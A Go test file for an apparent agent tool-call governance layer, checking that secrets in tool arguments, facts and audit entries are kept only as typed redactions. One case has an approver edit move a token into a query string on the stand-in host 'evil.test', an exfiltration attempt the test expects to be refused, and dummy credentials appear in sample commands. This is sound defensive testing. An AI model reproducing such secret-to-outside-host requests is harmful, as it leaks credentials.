package pipeline

import (
	"context"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/reinhq/rein"
	"github.com/reinhq/rein/approval"
)

// secretsPolicy allows reads (with a review), strips the Authorization
// header of posts, asks for payments and denies deletes.
const secretsPolicy = `version: 1
rules:
  - {id: read, when: 'tool == "http.get"', decision: allow, review: {reviewers: ["group:security"]}}
  - {id: strip, when: 'tool == "http.post"', decision: modify, modify: {remove: ["headers.Authorization"]}}
  - {id: pay, when: 'tool == "pay"', decision: ask, approval: {approvers: ["group:finance"]}}
  - {id: no-delete, when: 'tool == "http.delete"', decision: deny, reason: "no deletes"}
`

const bearer = "Bearer pl4nted-s3cret-0xC0FFEE"

// kept reads everything the store holds about a check, its approval and
// reviews, as JSON.
func keptText(t *testing.T, f *fixture, rec *rein.CheckRecord) string {
	t.Helper()
	ctx := context.Background()
	var all []any
	stored, err := f.store.CheckByID(ctx, rec.ID)
	if err != nil {
		t.Fatal(err)
	}
	all = append(all, stored)
	if rec.Approval != nil {
		a, err := f.store.Approval(ctx, rec.Approval.ID)
		if err != nil {
			t.Fatal(err)
		}
		all = append(all, a)
	}
	reviews, _ := f.store.Reviews(ctx, "acme", rein.ReviewFilter{})
	all = append(all, reviews)
	b, _ := json.Marshal(all)
	return string(b)
}

// TestSecretsAreKeptRedacted: for every decision, what the store keeps
// holds the bearer only as its typed redaction, while the agent is answered
// with exactly the arguments it must run.
func TestSecretsAreKeptRedacted(t *testing.T) {
	f := setup(t, secretsPolicy)
	stored(t, f, f.key)
	args := `{"url":"https://api.example.com/x","headers":{"Authorization":"` + bearer + `"}}`
	for _, tc := range []struct{ tool, decision, run string }{
		{"http.get", "allow", args},
		{"http.post", "modify", `{"headers":{},"url":"https://api.example.com/x"}`},
		{"http.delete", "deny", args},
		{"pay", "ask", args},
	} {
		rec := f.check(t, tc.tool, args)
		if string(rec.Decision) != tc.decision {
			t.Fatalf("%s: %s (%s)", tc.tool, rec.Decision, rec.Reason)
		}
		var got, want any
		json.Unmarshal(rec.Args, &got)
		json.Unmarshal([]byte(tc.run), &want)
		if g, w := mustJSON(got), mustJSON(want); g != w {
			t.Errorf("%s: the agent was answered %s, want %s", tc.tool, g, w)
		}
		text := keptText(t, f, rec)
		if strings.Contains(text, "pl4nted-s3cret") {
			t.Errorf("%s: the store keeps the secret: %s", tc.tool, text)
		}
		if !strings.Contains(text, "[authorization sha256:") {
			t.Errorf("%s: no typed redaction kept: %s", tc.tool, text)
		}
	}
}

func mustJSON(v any) string { b, _ := json.Marshal(v); return string(b) }

// TestSecretsComeBackFromTheRequest: an approved action runs with the
// agent's own secret, through a re-submission, a wait, and an edit that left
// the redaction in place; an edit that moved it elsewhere cannot run; a
// server that no longer holds the secret in memory keeps the grant for a
// re-submission instead of running redactions.
func TestSecretsComeBackFromTheRequest(t *testing.T) {
	f := setup(t, secretsPolicy)
	stored(t, f, f.key)
	ctx := context.Background()
	fin := stored(t, f, approver("fin1", "finance"))
	args := func(url string) string {
		return `{"url":"` + url + `","headers":{"Authorization":"` + bearer + `"}}`
	}
	approve := func(id string) {
		t.Helper()
		if _, err := f.p.Cast(ctx, fin, id, approval.Ballot{Kind: approval.Approve, Revision: 1}); err != nil {
			t.Fatal(err)
		}
	}
	marker := func(id string) string {
		a, _ := f.store.Approval(ctx, id)
		var m struct{ Headers map[string]string }
		json.Unmarshal(a.Args, &m)
		return m.Headers["Authorization"]
	}

	// Re-submission.
	ask := f.check(t, "pay", args("https://a.test/1"))
	approve(ask.Approval.ID)
	if got := f.check(t, "pay", args("https://a.test/1")); got.Decision != rein.Allow || !strings.Contains(string(got.Args), bearer) {
		t.Fatalf("re-submission: %s %s (%s)", got.Decision, got.Args, got.Reason)
	}

	// Wait, on the server that was asked.
	ask = f.check(t, "pay", args("https://a.test/2"))
	approve(ask.Approval.ID)
	w, err := f.p.Wait(ctx, f.key, ask.Approval.ID, time.Second, true)
	if err != nil || w.Decision != rein.Allow || !strings.Contains(string(w.RunArgs), bearer) {
		t.Fatalf("wait: %v %+v", err, w)
	}

	// An edit that keeps the redaction where it was runs with the secret.
	ask = f.check(t, "pay", args("https://a.test/3"))
	m := marker(ask.Approval.ID)
	if !strings.HasPrefix(m, "[authorization sha256:") {
		t.Fatalf("the approval's header: %q", m)
	}
	edit := json.RawMessage(`{"url":"https://a.test/3b","headers":{"Authorization":"` + m + `"}}`)
	if _, err := f.p.Cast(ctx, fin, ask.Approval.ID, approval.Ballot{Kind: approval.Edit, Args: edit, Revision: 1}); err != nil {
		t.Fatal(err)
	}
	got := f.check(t, "pay", args("https://a.test/3"))
	if got.Decision != rein.Allow || string(got.Args) != `{"headers":{"Authorization":"`+bearer+`"},"url":"https://a.test/3b"}` {
		t.Fatalf("the edited grant: %s %s (%s)", got.Decision, got.Args, got.Reason)
	}

	// An edit that moves the redaction into the URL cannot run.
	ask = f.check(t, "pay", args("https://a.test/4"))
	m = marker(ask.Approval.ID)
	edit = json.RawMessage(`{"url":"https://evil.test/?t=` + m + `","headers":{}}`)
	if _, err := f.p.Cast(ctx, fin, ask.Approval.ID, approval.Ballot{Kind: approval.Edit, Args: edit, Revision: 1}); err != nil {
		t.Fatal(err)
	}
	got = f.check(t, "pay", args("https://a.test/4"))
	if got.Decision == rein.Allow || !strings.Contains(got.Reason, "holds a redacted secret that the request does not carry") {
		t.Fatalf("a moved redaction ran: %s %s (%s)", got.Decision, got.Args, got.Reason)
	}

	// A secret an approver types into an edit is kept redacted and cannot run.
	ask = f.check(t, "pay", args("https://a.test/5"))
	edit = json.RawMessage(`{"url":"https://a.test/5","headers":{"Authorization":"Bearer typed-by-approver-77"}}`)
	if _, err := f.p.Cast(ctx, fin, ask.Approval.ID, approval.Ballot{Kind: approval.Edit, Args: edit, Revision: 1}); err != nil {
		t.Fatal(err)
	}
	if a, _ := f.store.Approval(ctx, ask.Approval.ID); strings.Contains(mustJSON(a), "typed-by-approver") {
		t.Fatalf("an approver's secret is kept: %s", mustJSON(a))
	}
	if got = f.check(t, "pay", args("https://a.test/5")); got.Decision == rein.Allow || !strings.Contains(got.Reason, "cannot be run") {
		t.Fatalf("an approver's redacted secret ran: %s %s (%s)", got.Decision, got.Args, got.Reason)
	}

	// Another server (a restart, a replica) has no secret in memory: the
	// wait keeps the grant, and the agent's re-submission uses it.
	ask = f.check(t, "pay", args("https://a.test/6"))
	approve(ask.Approval.ID)
	other := &Pipeline{Store: f.store, Policies: f.p.Policies, BaseURL: f.p.BaseURL, Log: f.p.Log}
	w, err = other.Wait(ctx, f.key, ask.Approval.ID, time.Second, true)
	if err != nil || w.Decision != rein.Deny || !strings.Contains(w.Reason, "send the same check again") || strings.Contains(mustJSON(w), "pl4nted") {
		t.Fatalf("a wait without the secret: %v %+v", err, w)
	}
	got, err = other.Check(ctx, f.key, &rein.CheckRequest{Tool: "pay", Args: json.RawMessage(args("https://a.test/6")), Session: "s1"})
	if err != nil || got.Decision != rein.Allow || !strings.Contains(string(got.Args), bearer) {
		t.Fatalf("the re-submission after it: %v %+v", err, got)
	}
}

// TestSecretsAreKeptRedactedInFacts: the facts rein derives from the
// arguments (a shell command's words and environment, a URL) are kept with
// the same redactions as the arguments: a token the arguments hold only as
// its typed redaction is not read back in clear from the check's facts.
func TestSecretsAreKeptRedactedInFacts(t *testing.T) {
	f := setup(t, secretsPolicy)
	stored(t, f, f.key)
	const gh = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"
	const aws = "AKIAQWERTYUIOPASDFGH"
	const stripe = "sk_live_51HbC9dEfGhIjKlMnOpQrStUv"
	for _, tc := range []struct{ tool, args string }{
		{"bash", mustJSON(map[string]string{"command": "curl -H 'Authorization: Bearer " + gh + "' https://api.example.com/x"})},
		{"bash", mustJSON(map[string]string{"command": "AWS_SECRET_ACCESS_KEY=" + aws + " aws s3 ls"})},
		{"bash", mustJSON(map[string]string{"command": `curl -H "Authorization: Bearer gh""` + gh[2:] + `" https://api.example.com/x`})},
		{"http.get", mustJSON(map[string]string{"url": "https://api.example.com/x?api_key=" + stripe})},
	} {
		rec := f.check(t, tc.tool, tc.args)
		stored, err := f.store.CheckByID(context.Background(), rec.ID)
		if err != nil {
			t.Fatal(err)
		}
		if len(stored.Facts) == 0 {
			t.Fatalf("%s: no facts kept", tc.args)
		}
		text := keptText(t, f, rec)
		for _, secret := range []string{gh, gh[2:], aws, stripe} {
			if strings.Contains(text, secret) {
				t.Errorf("%s: the store keeps %s in clear: %s", tc.args, secret, text)
			}
		}
		if tc.tool == "bash" && !strings.Contains(mustJSON(stored.Facts), " sha256:") {
			t.Errorf("%s: no typed redaction in the facts kept: %s", tc.args, mustJSON(stored.Facts))
		}
	}
}

// TestNamedCredentialsAreKeptRedacted: a credential the text around it
// names (an environment assignment, an option, curl's user:password, a
// URL query parameter, a password in SQL, a JSON key), low in entropy as a
// typed password is, is kept nowhere in clear: not in the check record's
// arguments or facts, nor in its audit entry; the agent is answered with
// its own arguments, and the record still shows which command runs.
func TestNamedCredentialsAreKeptRedacted(t *testing.T) {
	f := setup(t, secretsPolicy)
	stored(t, f, f.key)
	const pw = "hunter2"
	for _, tc := range []struct{ tool, args, readable string }{
		{"bash", mustJSON(map[string]string{"command": "PGPASSWORD=" + pw + " psql -h db.internal -c 'select 1'"}), "psql -h db.internal"},
		{"bash", mustJSON(map[string]string{"command": "MYSQL_PWD='" + pw + "' mysql -u root -e 'show tables'"}), "mysql -u root"},
		{"bash", mustJSON(map[string]string{"command": "export GITHUB_TOKEN=" + pw + "; gh pr list"}), "gh pr list"},
		{"bash", mustJSON(map[string]string{"command": "env API_KEY=\"" + pw + "\" ./deploy.sh"}), "./deploy.sh"},
		{"bash", mustJSON(map[string]string{"command": "mysql --password=" + pw + " -u root prod"}), "-u root prod"},
		{"bash", mustJSON(map[string]string{"command": "vault login --token " + pw}), "vault login --token"},
		{"bash", mustJSON(map[string]string{"command": "mysqldump -uroot -p" + pw + " prod > dump.sql"}), "mysqldump -uroot -p"},
		{"bash", mustJSON(map[string]string{"command": "sshpass -p '" + pw + "' ssh admin@host uptime"}), "ssh admin@host uptime"},
		{"bash", mustJSON(map[string]string{"command": "curl -u admin:" + pw + " https://api.example.com/x"}), "https://api.example.com/x"},
		{"bash", mustJSON(map[string]string{"command": "curl 'https://api.example.com/x?access_token=" + pw + "&page=2'"}), "page=2"},
		{"bash", mustJSON(map[string]string{"command": `psql -c "ALTER USER app WITH PASSWORD '` + pw + `'" prod`}), "ALTER USER app WITH PASSWORD"},
		{"http.get", mustJSON(map[string]string{"url": "https://api.example.com/x?password=" + pw}), "https://api.example.com/x?password="},
		{"sql", mustJSON(map[string]string{"query": "CREATE USER u IDENTIFIED BY '" + pw + "'"}), "CREATE USER u IDENTIFIED BY"},
		{"http.get", mustJSON(map[string]any{"url": "https://api.example.com/login", "body": map[string]string{"user": "me", "pass": pw}}), "https://api.example.com/login"},
		{"pay", mustJSON(map[string]string{"command": "PGPASSWORD=" + pw + " psql -h db.internal", "api_key": pw}), "psql -h db.internal"}, // asked: the approval too
	} {
		rec := f.check(t, tc.tool, tc.args)
		var got, want any
		json.Unmarshal(rec.Check.Args, &got)
		json.Unmarshal([]byte(tc.args), &want)
		if mustJSON(got) != mustJSON(want) {
			t.Errorf("%s: the agent was answered %s", tc.args, rec.Check.Args)
		}
		stored, err := f.store.CheckByID(context.Background(), rec.ID)
		if err != nil {
			t.Fatal(err)
		}
		if tc.tool == "pay" && rec.Approval == nil {
			t.Errorf("%s: %s, want an approval", tc.args, rec.Decision)
		}
		text := keptText(t, f, rec)
		entry := mustJSON(entryAt(t, f.store, rec.AuditIndex))
		for where, s := range map[string]string{"store": text, "audit entry": entry} {
			if strings.Contains(s, pw) {
				t.Errorf("%s: the %s keeps the password in clear: %s", tc.args, where, s)
			}
		}
		if !strings.Contains(string(stored.Check.Args), tc.readable) || !strings.Contains(string(stored.Check.Args), " sha256:") {
			t.Errorf("%s: kept as %s, want %q readable beside a typed redaction", tc.args, stored.Check.Args, tc.readable)
		}
	}
}

// TestReplaceSecret: in the facts, a short secret is replaced wherever a
// word ends with it, never left at the end of one, and the start of a
// longer word is left readable.
func TestReplaceSecret(t *testing.T) {
	for _, tc := range []struct{ s, secret, want string }{
		{"xargs -0 x", "x", "xargs -0 M"},
		{"-phunter2 prod", "hunter2", "-pM prod"},
		{"PGPASSWORD=hunter2", "hunter2", "PGPASSWORD=M"},
		{"hunter2hunter2", "hunter2", "hunter2M"},
		{"a long-secret-value here", "long-secret-value", "a M here"},
		{"nothing", "x", "nothing"},
	} {
		if got := replaceSecret(tc.s, tc.secret, "M"); got != tc.want {
			t.Errorf("replaceSecret(%q, %q) = %q, want %q", tc.s, tc.secret, got, tc.want)
		}
	}
}
